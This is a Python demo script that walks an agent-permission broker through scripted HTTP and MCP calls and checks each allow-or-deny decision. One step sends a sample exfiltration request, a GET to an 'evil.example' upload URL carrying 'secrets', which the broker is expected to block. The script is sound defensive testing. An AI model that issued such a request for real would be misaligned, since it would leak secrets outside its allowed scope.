"""The tour's steps: for each, the call, the decision, and what the tool saw."""

import json
import ssl
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import httpx2
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from broker.demo.tools import Tool

AGENT = "refund-bot"

# Title, method, URL, body, and the decision that it must get.
_HTTP_CALLS: tuple[tuple[str, str, str, Any, str], ...] = (
    ("1. A call within the manifest", "POST", "{api}/v1/refunds", {"charge": "ch_1", "amount": 1200}, "allow"),
    ("2. A parameter out of bounds", "POST", "{api}/v1/refunds", {"charge": "ch_1", "amount": 99000}, "params_invalid"),
    ("3. An operation that the manifest does not list", "DELETE", "{api}/v1/charges/ch_1", None, "operation_not_declared"),
    ("4. A host that nobody declared", "GET", "https://evil.example/upload?data=secrets", None, "host_not_declared"),
)
# Title, MCP tool, arguments, and the decision.
_MCP_CALLS = (
    ("6. The tool that it lists", "search_pages", {"query": "refunds"}, "allow"),
    ("7. The one that it does not", "delete_page", {"page": "home"}, "operation_not_declared"),
    ("8. The session goes on", "search_pages", {"query": "fees"}, "allow"),
)


@dataclass(frozen=True, slots=True)
class Place:
    """The running broker, as the agent's environment describes it."""

    proxy: str
    base_url: str
    ca: str
    token: str
    last_code: Callable[[], str]
    """The code of the newest denial in the record."""


class Surprise(Exception):
    """A step did not go as it should."""


class Tour:
    """Walks the steps. `say` prints a line."""

    def __init__(self, place: Place, payments: Tool, wiki: Tool, say: Callable[[str], None]) -> None:
        self._place, self._payments, self._wiki, self._say = place, payments, wiki, say
        proxy = f"http://{AGENT}:{place.token}@{place.proxy}"
        self._http = httpx2.AsyncClient(proxy=proxy, verify=ssl.create_default_context(cafile=place.ca))

    async def walk(self) -> None:
        """Every step, in order. Raises `Surprise`."""
        self._say("An agent's environment holds HTTPS_PROXY and SSL_CERT_FILE. It holds no key of any tool.")
        for title, method, url, body, expected in _HTTP_CALLS:
            target = url.format(api=f"https://localhost:{self._payments.port}")
            what = f"{method} {target}" + (f" {json.dumps(body)}" if body else "")
            await self._step(title, what, expected, self._payments, self._send(method, target, body))
        http = httpx2.AsyncClient(headers={"x-broker-token": self._place.token})
        async with http, Client(streamable_http_client(f"http://{self._place.base_url}/wiki", http_client=http)) as client:
            listed = [tool.name for tool in (await client.list_tools()).tools]
            self._say("\n5. An MCP server with two tools, of which the manifest lists one")
            self._say(f"  call      tools/list\n  decision  allow, shows {listed}")
            if listed != ["search_pages"]:
                raise Surprise(f"tools/list shows {listed}")
            for title, name, arguments, expected in _MCP_CALLS:
                what = f"tools/call {name} {json.dumps(arguments)}"
                await self._step(title, what, expected, self._wiki, _call(client, name, arguments))

    async def _step(self, title: str, what: str, expected: str, tool: Tool, sent: Awaitable[tuple[str, str]]) -> None:
        tool.seen.clear()
        self._say(f"\n{title}\n  call      {what}")
        code, words = await sent
        self._say(f"  decision  {words}")
        for seen in tool.seen:
            self._say(f"  upstream  {seen.request}")
            self._say(f"            authorization: {_shortened(seen.authorization)}  (the agent never held it)")
        if not tool.seen:
            self._say("  upstream  saw nothing")
        if code != expected or bool(tool.seen) != (expected == "allow"):
            raise Surprise(f"{title}: expected {expected}, got {code}")

    async def _send(self, method: str, url: str, body: Any) -> tuple[str, str]:
        content = json.dumps(body) if body else None
        try:
            answer = await self._http.request(method, url, content=content, headers={"content-type": "application/json"})
        except httpx2.ProxyError as error:
            # A client shows only the status of a refused CONNECT; why is in the record.
            code = self._place.last_code()
            return code, f"deny {code}: the agent sees {str(error)!r}"
        if answer.is_success:
            return "allow", f"allow (HTTP {answer.status_code})"
        problem = answer.json()
        pointers = "".join(f"\n            at {each['pointer']}, by {each['rule']}" for each in problem["violations"])
        return problem["code"], f"deny {problem['code']}: {problem['detail']} (HTTP {answer.status_code}){pointers}"


async def _call(client: Client, name: str, arguments: dict[str, str]) -> tuple[str, str]:
    result = await client.call_tool(name, arguments)
    text = getattr(result.content[0], "text", "")
    if not result.is_error:
        return "allow", f"allow, answers {text!r}"
    problem = json.loads(text)
    return problem["code"], f"deny {problem['code']}: {problem['detail']}"


def _shortened(value: str) -> str:
    return value if len(value) <= 40 else f"{value[:28]}…"  # noqa: PLR2004 - a terminal's line
